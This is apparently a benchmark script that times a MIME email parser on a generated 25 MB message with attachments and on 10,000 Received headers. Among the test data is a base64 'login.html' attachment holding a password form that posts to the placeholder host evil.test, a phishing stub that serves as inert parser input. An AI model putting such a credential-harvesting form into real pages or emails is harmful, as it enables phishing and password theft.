// Benchmark: parseMessage on a generated 25 MB message with attachments, plus buildHops on 10,000 Received headers.
// Run: npx tsx scripts/bench/mime.mjs   (prints figures; target: 25 MB well under 1 s)
import { parseMessage } from '../../src/core/parse/mime/parse-message.ts';
import { buildHops } from '../../src/core/parse/received/build-hops.ts';
import { splitHeaderSection } from '../../src/core/parse/headers/header-section.ts';
import { DEFAULT_LIMITS } from '../../src/core/deps.ts';

function b64Lines(bytes) {
  const s = Buffer.from(bytes).toString('base64');
  const out = [];
  for (let i = 0; i < s.length; i += 76) out.push(s.slice(i, i + 76));
  return out.join('\r\n');
}

function bigMessage(targetBytes) {
  const parts = [
    'From: "Sender" <sender@example.org>',
    'To: rcpt@example.jp',
    'Subject: big',
    'Date: Mon, 8 Jan 2024 10:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="BOUND"',
    '',
    '--BOUND',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Hello '.repeat(2000),
    '',
    '--BOUND',
    'Content-Type: text/html; charset=utf-8',
    'Content-Disposition: attachment; filename="login.html"',
    'Content-Transfer-Encoding: base64',
    '',
    b64Lines(Buffer.from('<form action="https://evil.test/"><input name="pw"></form>'.repeat(100))),
    '',
  ];
  const chunk = new Uint8Array(4 * 1024 * 1024);
  for (let i = 0; i < chunk.length; i++) chunk[i] = (i * 2654435761) >>> 24;
  let size = parts.join('\r\n').length;
  let n = 0;
  while (size < targetBytes) {
    const enc = b64Lines(chunk);
    parts.push(
      '--BOUND',
      'Content-Type: application/pdf',
      `Content-Disposition: attachment; filename="doc${n++}.pdf"`,
      'Content-Transfer-Encoding: base64',
      '',
      enc,
      '',
    );
    size += enc.length + 150;
  }
  parts.push('--BOUND--', '');
  return new TextEncoder().encode(parts.join('\r\n'));
}

async function time(label, fn, runs = 5) {
  await fn();
  const ms = [];
  for (let i = 0; i < runs; i++) {
    const t0 = performance.now();
    await fn();
    ms.push(performance.now() - t0);
  }
  ms.sort((a, b) => a - b);
  console.log(`${label}: median ${ms[Math.floor(runs / 2)].toFixed(1)} ms, min ${ms[0].toFixed(1)} ms, max ${ms[runs - 1].toFixed(1)} ms`);
}

const raw = bigMessage(25 * 1024 * 1024);
console.log(`message size: ${(raw.length / 1024 / 1024).toFixed(1)} MB`);
let attachments = 0;
await time('parseMessage 25 MB (CRLF)', async () => {
  attachments = (await parseMessage(raw, DEFAULT_LIMITS)).attachments.length;
});
console.log(`attachments: ${attachments}`);
const lf = new Uint8Array(raw.filter((b) => b !== 13));
await time('parseMessage 25 MB (LF, normalized to CRLF)', async () => {
  await parseMessage(lf, DEFAULT_LIMITS);
});

const rcv = [];
for (let i = 0; i < 10000; i++)
  rcv.push(
    `Received: from h${i}.example.net (h${i}.example.net [192.0.2.${i % 250}]) (using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)) by mx${i}.example.org (Postfix) with ESMTPS id ${i}; Mon, 8 Jan 2024 10:00:00 +0000`,
  );
const hdr = new TextEncoder().encode(rcv.join('\r\n') + '\r\n\r\nbody');
await time('10,000 Received: split headers (maxHeaders 20000) + buildHops (maxReceived 100)', () => {
  const s = splitHeaderSection(hdr, { maxHeaderBytes: 8 * 1024 * 1024, maxHeaders: 20000 });
  buildHops(s.headers, { maxReceived: 100 });
});
await time(
  '10,000 Received: buildHops with maxReceived 10000',
  () => {
    const s = splitHeaderSection(hdr, { maxHeaderBytes: 8 * 1024 * 1024, maxHeaders: 20000 });
    buildHops(s.headers, { maxReceived: 10000 });
  },
  3,
);
await time('10,000 Received: whole parseMessage with default limits', async () => {
  await parseMessage(hdr, DEFAULT_LIMITS);
});
